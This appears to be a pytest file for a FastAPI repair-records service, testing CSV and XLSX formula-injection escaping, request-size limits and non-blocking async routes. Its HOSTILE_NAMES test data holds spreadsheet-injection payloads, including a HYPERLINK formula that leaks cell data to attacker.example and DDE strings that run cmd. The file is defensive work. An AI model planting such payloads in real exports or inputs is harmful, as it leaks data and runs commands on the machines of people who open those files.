"""Attacks on what a request makes the server do or hand out: unbounded work and exported formulas
(issue 15 points 5 and 6)."""

import ast
import csv
import io
import threading
import time
import uuid
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path

import httpx
import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from app.api import national
from app.domain.clock import today_in_china
from app.domain.errors import AppError
from app.main import create_app
from tests.app.conftest import Shop, regulator
from tests.app.servers import serve
from tests.support.samples import make_enterprise, make_record, make_vin

REG = "/api/v1/regulator"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
HOSTILE_NAMES = [
    '=HYPERLINK("http://attacker.example/?"&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3+cmd|' /C calc'!A0",
    '\uff1dHYPERLINK("http://attacker.example")',
]
REGION = "320902"  # 亭湖区 (盐城): no other test makes enterprises in that city


@pytest.fixture(scope="module")
def hostile_region(client, admins):
    for n, name in enumerate(HOSTILE_NAMES):
        shop = Shop(client, **{**make_enterprise(name=name), "region_code": REGION})
        r = shop.upload(make_record(f"JS-FORMULA-{n}"))
        assert r.status_code in (200, 201), r.text
    return regulator(client, admins, REGION)


def export(client, reg, **params: str):
    """The regulator's statistics export over the last 30 days."""
    today = today_in_china()
    period = {"start": (today - timedelta(days=30)).isoformat(), "end": today.isoformat()}
    return client.get(f"{REG}/statistics/export", params={**period, **params}, headers=reg.headers)


def test_enterprise_names_cannot_plant_formulas_in_csv_exports(client, hostile_region):
    r = export(client, hostile_region, format="csv", table="by_enterprise")
    assert r.status_code == 200, r.text
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    names = [row[1] for row in rows[1:]]
    for name in HOSTILE_NAMES:
        assert "'" + name in names  # the leading quote makes it text in Excel, WPS, LibreOffice
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START)


def test_enterprise_names_cannot_plant_formulas_in_xlsx_exports(client, hostile_region):
    r = export(client, hostile_region, format="xlsx")
    assert r.status_code == 200, r.text
    wb = load_workbook(io.BytesIO(r.content))
    seen = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if cell.value in HOSTILE_NAMES:
                    seen[cell.value] = cell
    assert set(seen) == set(HOSTILE_NAMES)
    for cell in seen.values():
        assert cell.data_type == "s" and cell.quotePrefix


# --- point 5: bounded work per request, nothing blocking on the event loop ----------------------------


@pytest.fixture(scope="module")
def shop_web(client):
    shop = Shop(client, name="表单上限测试汽修")
    name = "shop-bounds-" + uuid.uuid4().hex[:6]
    r = client.post(
        "/api/v1/collection/users", json={"username": name, "password": "shop pass 1"}, headers=shop.headers
    )
    assert r.status_code == 201, r.text
    web = TestClient(client.app)
    assert web.post("/shop/login", data={"username": name, "password": "shop pass 1"}).status_code == 200
    return web


@pytest.mark.parametrize(
    "key",
    ["items.999999999.name", "parts.500.name", "items.200.fee", "items." + "9" * 5000 + ".name"],
)
def test_a_tiny_form_cannot_keep_a_worker_busy(shop_web, key):
    """~30 bytes once sized the correction form's loops (and its page) by the largest row number."""
    started = time.monotonic()
    r = shop_web.post("/shop/correct", data={key: "x", "settlement_no": "JS-1"})
    elapsed = time.monotonic() - started
    assert r.status_code == 422 and "200" in r.text and "500" in r.text, r.text[-1500:]
    assert elapsed < 2, f"answered in {elapsed:.1f} s"  # the one timed assertion: a generous bound


def test_the_form_still_takes_rows_up_to_the_limit(shop_web):
    r = shop_web.post(
        "/shop/correct", data={"items.199.name": "x", "parts.499.name": "y", "settlement_no": "S"}
    )
    assert r.status_code == 422 and "items.199" in r.text  # the validators' answer: the form is shown again


def test_the_national_envelope_refuses_oversized_lists_before_building_them(client, shop):
    token = client.post(
        "/api/national/carhealth/token",
        json={
            "transaction": {"body": {"reqInfo": {"companycode": shop.key_id, "companypassword": shop.secret}}}
        },
    ).json()["respInfo"]["access_token"]
    info = {"access_token": token, "basicInfo": {"vin": make_vin()}, "vehiclepartslist": [{}] * 501}
    r = client.post("/api/national/carhealth/record", json={"transaction": {"body": {"reqInfo": info}}})
    resp = r.json()["respInfo"]
    assert resp["code"] == "0" and resp["errors"][0]["field"] == "vehiclepartslist"
    assert resp["errors"][0]["code"] == "TOO_MANY_ITEMS" and "500" in resp["errors"][0]["message"]


def test_a_notice_cannot_carry_unbounded_attachments(client, admins):
    reg = regulator(client, admins, REGION)
    png = b"\x89PNG\r\n\x1a\n" + b"\0" * 64
    files = [("files", (f"a{i}.png", png, "image/png")) for i in range(11)]
    r = client.post(
        f"{REG}/notices",
        data={"kind": "notice", "title": "附件上限", "body": "正文"},
        files=files,
        headers=reg.headers,
    )
    assert r.status_code == 422 and r.json()["error"]["code"] == "TOO_MANY_FILES", r.text
    assert "10" in r.json()["error"]["message"]


@pytest.fixture(scope="module")
def live(settings) -> Iterator[str]:
    """The app under uvicorn on a loopback port (one event loop, as each app-web worker has)."""
    with serve(create_app(settings)) as url:
        yield url


def test_a_slow_national_login_does_not_stop_the_server(live, monkeypatch):
    """The national token call (argon2 and the database) holds its thread; the server answers others.
    The stand-in for a slow verification blocks until released, so nothing here depends on timing:
    on the event loop it would hold /healthz until the release (after the probe's timeout)."""
    entered, release = threading.Event(), threading.Event()

    def slow_issue_token(*_args, **_kwargs):
        entered.set()
        release.wait(20)
        raise AppError("AUTH_INVALID_CREDENTIALS", 401)

    monkeypatch.setattr(national, "issue_token", slow_issue_token)
    body = {"transaction": {"body": {"reqInfo": {"companycode": "E1", "companypassword": "secret secret"}}}}
    answer: list[httpx.Response] = []
    caller = threading.Thread(
        target=lambda: answer.append(
            httpx.post(f"{live}/api/national/carhealth/token", json=body, timeout=30)
        )
    )
    caller.start()
    try:
        assert entered.wait(20), "the token call did not start"
        probe = httpx.get(f"{live}/healthz", timeout=10)
        assert probe.status_code == 200
    finally:
        release.set()
        caller.join(30)
    assert answer and answer[0].json()["respInfo"]["errcode"] == "AUTH_INVALID_CREDENTIALS"


BLOCKING = {
    "transaction", "execute", "scalars", "hash_secret", "verify_secret", "issue_token",
    "enterprise_from_token", "authenticate", "upload", "register", "submit", "record", "to_csv", "to_xlsx",
    "read_uploads", "render", "from_form", "_correction_form", "_record_page", "loads",
}  # fmt: skip


def _blocking_calls(fn: ast.AsyncFunctionDef) -> list[str]:
    found = []
    for node in ast.walk(fn):
        if isinstance(node, ast.Call):
            f = node.func
            name = f.attr if isinstance(f, ast.Attribute) else f.id if isinstance(f, ast.Name) else ""
            if name in BLOCKING:
                found.append(f"{fn.name}:{node.lineno} {name}()")
    return found


def test_no_async_route_calls_the_database_argon2_or_parsers_directly():
    """Statically: inside every `async def` of app/api and app/web, the database, argon2, uploads,
    exports and page rendering are only handed to the thread pool (run_in_threadpool(f, ...)), never
    called on the event loop."""
    root = Path(__file__).resolve().parents[2] / "app"
    offenders = []
    for path in [*sorted((root / "api").glob("*.py")), *sorted((root / "web").glob("*.py"))]:
        for node in ast.walk(ast.parse(path.read_text(), str(path))):
            if isinstance(node, ast.AsyncFunctionDef):
                offenders += [f"{path.name} {c}" for c in _blocking_calls(node)]
    assert offenders == []
